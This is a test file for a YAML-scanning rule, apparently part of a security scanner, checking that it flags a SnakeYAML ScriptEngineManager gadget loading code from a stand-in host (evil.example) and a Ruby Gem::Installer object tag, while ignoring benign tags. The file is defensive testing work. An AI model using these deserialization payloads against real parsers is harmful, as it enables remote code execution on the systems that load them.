import { describe, it } from "vitest";
import { expectSafeRule } from "../../test-support/safetensors-builder.js";

describe("YML002", () => {
  it("catches a SnakeYAML gadget", async () => {
    await expectSafeRule("x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n", "YML002", true, "config.yaml");
  });
  it("catches a Ruby object tag", async () => {
    await expectSafeRule("x: !ruby/object:Gem::Installer\n  i: x\n", "YML002", true, "config.yaml");
  });
  it("does not fire on core tags and an !include local tag", async () => {
    await expectSafeRule("a: !!str 1\nb: !!binary aGVsbG8=\nc: !include other.yaml\n", "YML002", false, "config.yaml");
  });
});
